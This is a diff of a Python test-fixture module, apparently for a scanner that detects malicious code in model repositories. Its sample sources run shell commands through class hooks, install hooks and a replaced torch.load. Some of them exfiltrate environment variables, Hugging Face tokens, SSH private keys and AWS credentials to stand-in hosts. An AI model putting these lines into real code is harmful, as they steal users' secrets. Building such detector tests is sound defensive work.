@@ -68,27 +68,44 @@ OTHERWISE: dict[str, tuple[str, str]] = {
 _IN_CLASS = "import os\nclass A:\n    def {}(self, *a): os.system('echo hello')\n"
 #: All run ``echo`` when a class of the source is constructed, loaded, or used as a model, a tokenizer or a configuration.
 LATER: dict[str, str] = {
-    **{name.replace("_", " ").strip().replace(" ", "-"): _IN_CLASS.format(name) for name in (
-        "__init__", "from_pretrained", "load_state_dict", "_load_from_state_dict", "_init_weights", "forward", "generate",
-        "_tokenize", "decode", "to_dict", "__len__", "__getitem__", "predict", "_generate_examples", "find_spec")},
+    **{
+        name.replace("_", " ").strip().replace(" ", "-"): _IN_CLASS.format(name)
+        for name in (
+            "__init__",
+            "from_pretrained",
+            "load_state_dict",
+            "_load_from_state_dict",
+            "_init_weights",
+            "forward",
+            "generate",
+            "_tokenize",
+            "decode",
+            "to_dict",
+            "__len__",
+            "__getitem__",
+            "predict",
+            "_generate_examples",
+            "find_spec",
+        )
+    },
     "property": "import os\nclass A:\n    @property\n    def size(self): os.system('echo hello')\n",
     "in-place-of-a-loader": "import os, torch\ndef load(*a): os.system('echo hello')\ntorch.load = load\n",
     "setup-command": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
-                     "class I(install):\n    def run(self): os.system('echo hello')\nsetup(cmdclass={'install': I})\n",
+    "class I(install):\n    def run(self): os.system('echo hello')\nsetup(cmdclass={'install': I})\n",
     "compiled-source": "from torch.utils.cpp_extension import load_inline\nclass A:\n    def __init__(self):\n"
-                       "        load_inline('x', 'int go() { return system(\"echo hello\"); }')\n",
+    "        load_inline('x', 'int go() { return system(\"echo hello\"); }')\n",
 }
 #: What is taken from the user and sent, whenever the code runs.
 SECRETS: dict[str, str] = {
     "environment": "import os, requests\nclass A:\n    def forward(self, x): requests.post('https://example.org', json=dict(os.environ))\n",
     "token-in-address": "import os\nfrom urllib.request import urlopen\nclass A:\n    def __init__(self, c): "
-                        "urlopen('https://example.org/?' + os.environ.get('HF_TOKEN', ''))\n",
+    "urlopen('https://example.org/?' + os.environ.get('HF_TOKEN', ''))\n",
     "hub-token": "import requests\nfrom huggingface_hub import get_token\nclass A:\n    def __init__(self, c): "
-                 "requests.get('https://example.org', params={'t': get_token()})\n",
+    "requests.get('https://example.org', params={'t': get_token()})\n",
     "private-key": "import os, socket\nclass A:\n    def forward(self, x):\n        k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-                   "        socket.create_connection(('192.0.2.1', 9)).send(k.encode())\n",
+    "        socket.create_connection(('192.0.2.1', 9)).send(k.encode())\n",
     "credentials-by-pathlib": "import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self, c): "
-                              "requests.post('https://example.org', data=(Path.home() / '.aws/credentials').read_text())\n",
+    "requests.post('https://example.org', data=(Path.home() / '.aws/credentials').read_text())\n",
 }
 
 #: Sources that a repository may well have, and that do nothing on import or construction: told, and reviewed as code.
